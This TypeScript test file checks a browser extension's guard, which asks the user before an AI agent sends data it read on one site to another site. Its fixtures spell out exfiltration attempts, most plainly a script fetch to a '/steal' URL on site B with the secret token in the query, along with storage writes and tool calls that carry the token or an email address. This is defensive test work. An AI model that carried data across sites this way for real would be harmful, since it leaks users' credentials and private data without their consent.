/**
 * Every other way out of site A, in real Chromium with the real extension: the agent has read A's
 * token, address and paragraph, and sends them to site B (another origin) through a script's `fetch`
 * run in A's page, B's page storage, B's own tool (WebMCP), B's plugin tool and a saved workflow that
 * types before it navigates, run in B's tab (the extension names the tab's origin: `tab.origin`). Each asks in the side
 * panel; deny stops it and B gets nothing. "Always allow A -> B" lets the agent's later flows through
 * without a question, and only the agent's: another client that read A is still asked. Without the
 * guard every one of these calls would run at once and B would hold the secret.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { rawTextOf, textOf } from '../helpers/mcpClient'
import { BROWSER_START_TIMEOUT_MS } from '../helpers/timing'
import {
  EMAIL,
  FLOW_WAIT_MS,
  PARAGRAPH,
  startFlowBridge,
  TOKEN,
  type FlowBridge,
  type FlowSites,
} from './support/flowSites'

describe('data read on one site leaving for another by every other sink', { timeout: 300_000 }, () => {
  let flow: FlowBridge
  let sites: FlowSites
  let panel: Page
  let tabA: number
  let tabB: number

  beforeAll(async () => {
    flow = await startFlowBridge({
      tools: { browser_evaluate: 'auto', browser_storage_set: 'auto', browser_local_storage_get: 'auto' },
      plugin: true,
      siteTools: true,
    })
    ;({ sites, panel } = flow)
    tabA = await flow.openA()
    tabB = await flow.openTab(`${sites.b}/collect`)
    // A saved workflow whose one step types into the page it starts on: no navigation says where that is.
    const folder = join(flow.bridge.configDir, 'workflows')
    mkdirSync(folder, { recursive: true, mode: 0o700 })
    const now = new Date().toISOString()
    writeFileSync(
      join(folder, 'jot.json'),
      JSON.stringify({
        version: 1,
        name: 'jot',
        description: 'Types a note into the page it starts on',
        permission: 'auto',
        recordedBy: 'agent',
        createdAt: now,
        updatedAt: now,
        variables: [{ name: 'note', secret: false, default: 'hello' }],
        steps: [{ action: 'type', target: { css: '#msg' }, text: '{{note}}' }],
        history: [],
      }),
      { mode: 0o600 },
    )
    expect((await flow.bridge.daemon.fetch('/reload', { method: 'POST' })).ok).toBe(true)
  }, BROWSER_START_TIMEOUT_MS)
  afterAll(() => flow?.close())

  const call = (name: string, args: Record<string, unknown>) => flow.call(name, args)

  /** Denies the flow card and checks what it said: the call fails and B got nothing of `value`. */
  async function deniedFlow(pending: ReturnType<typeof call>, kind: string, value: string) {
    const card = await flow.flowCard()
    expect(await card.getByTestId('approval-flow-from').first().textContent()).toBe(sites.a)
    expect(await card.getByTestId('approval-flow-to').first().textContent()).toBe(sites.b)
    expect(await card.getByTestId('approval-flow-item').first().getAttribute('data-kind')).toBe(kind)
    await card.getByTestId('deny').click()
    expect(rawTextOf(await pending)).toMatch(/^\[approval_denied\]/)
    expect(sites.carrying(value)).toEqual([])
  }

  it("asks before a script in A's page fetches B with the token in its URL; deny: B gets nothing", async () => {
    const pending = call('browser_evaluate', {
      tabId: tabA,
      expression: `fetch(${JSON.stringify(`${sites.b}/steal?k=${TOKEN}`)}, { mode: 'no-cors' }).then(() => 'sent')`,
    })
    await deniedFlow(pending, 'token', TOKEN)
  })

  it("asks before the address goes into B's page storage; deny: B's storage never holds it", async () => {
    const pending = call('browser_storage_set', { tabId: tabB, key: 'contact', value: `write to ${EMAIL}` })
    await deniedFlow(pending, 'email', EMAIL)
    const stored = await call('browser_local_storage_get', { tabId: tabB, key: 'contact' })
    expect(stored.isError).toBeFalsy()
    expect(textOf(stored)).not.toContain(EMAIL)
  })

  it("asks before the paragraph goes to B's own tool; deny: the site's tool never runs", async () => {
    const page = await flow.bridge.browser.newPage(`${sites.b}/tools`)
    const name = flow.siteTool('send_message')
    await expect
      .poll(async () => (await flow.mcp.client.listTools()).tools.some((t) => t.name === name), {
        timeout: FLOW_WAIT_MS,
      })
      .toBe(true)
    await deniedFlow(call(name, { text: `Forwarding: ${PARAGRAPH}` }), 'text', 'northern shipping')
    expect(await page.evaluate(() => (window as unknown as { sent: string[] }).sent)).toEqual([])
  })

  it("asks before the token goes to B's plugin tool; deny: the plugin sends nothing, allow once sends it once", async () => {
    await expect.poll(() => flow.bridge.readyTabs('courier'), { timeout: FLOW_WAIT_MS }).toBeGreaterThan(0)
    await deniedFlow(call('courier_post_message', { text: `key ${TOKEN}` }), 'token', TOKEN)

    const once = call('courier_post_message', { text: `key ${TOKEN}` })
    await (await flow.flowCard()).getByTestId('approve-once').click()
    expect((await once).isError).toBeFalsy()
    expect(sites.carrying(TOKEN).map((r) => r.url)).toEqual(['/api/messages'])
  })

  it("asks before a workflow that types before navigating, started in B's tab, types A's address there; deny: B's field stays empty", async () => {
    await deniedFlow(call('workflow_jot', { tabId: tabB, note: `write to ${EMAIL}` }), 'email', EMAIL)
    const field = await call('browser_evaluate', {
      tabId: tabB,
      expression: `document.getElementById('msg').value`,
    })
    expect(field.isError).toBeFalsy()
    expect(textOf(field)).not.toContain(EMAIL)
  })

  it('asks before the same workflow runs in a closed tab: an unknown page, never taken for A', async () => {
    const gone = await flow.openTab(`${sites.a}/inbox`)
    expect((await call('browser_close_tab', { tabId: gone })).isError).toBeFalsy()
    const pending = call('workflow_jot', { tabId: gone, note: `write to ${EMAIL}` })
    const card = await flow.flowCard()
    expect(await card.getByTestId('approval-flow-from').first().textContent()).toBe(sites.a)
    expect(await card.getByTestId('approval-flow-to').first().textContent()).toBe('an unknown page')
    await card.getByTestId('deny').click()
    expect(rawTextOf(await pending)).toMatch(/^\[approval_denied\]/)
  })

  it('always allow A -> B lets the agent send later without asking, and asks another client still', async () => {
    const first = call('browser_navigate', { tabId: tabB, url: `${sites.b}/collect?first=${TOKEN}` })
    await (await flow.flowCard()).getByTestId('approve-always').click()
    expect((await first).isError).toBeFalsy()
    const config = JSON.parse(readFileSync(join(flow.bridge.configDir, 'config.json'), 'utf8')) as {
      flowGuard?: { allowed?: Record<string, string[]> }
    }
    expect(config.flowGuard?.allowed?.agent).toEqual([`${sites.a} -> ${sites.b}`])

    // Later flows of the agent from A to B run with no question, whatever the sink.
    const stored = await call('browser_storage_set', { tabId: tabB, key: 'contact', value: EMAIL })
    expect(stored.isError).toBeFalsy()
    const later = await call('browser_navigate', { tabId: tabB, url: `${sites.b}/collect?later=${TOKEN}` })
    expect(later.isError).toBeFalsy()
    expect(await panel.getByTestId('approval').count()).toBe(0)
    expect(sites.carrying(TOKEN).map((r) => r.url)).toEqual(
      expect.arrayContaining([`/collect?first=${TOKEN}`, `/collect?later=${TOKEN}`]),
    )

    // Another client that read the same page is asked: the user allowed the agent, not every client.
    const other = await flow.bridge.connectAs('other')
    const otherA = await flow.openA(other)
    const otherB = await flow.openTab(`${sites.b}/collect`, other)
    expect(otherA).not.toBe(tabA)
    const pending = flow.call(
      'browser_navigate',
      { tabId: otherB, url: `${sites.b}/collect?other=${TOKEN}` },
      other,
    )
    await deniedFlow(pending, 'token', `other=${TOKEN}`)
  })
})
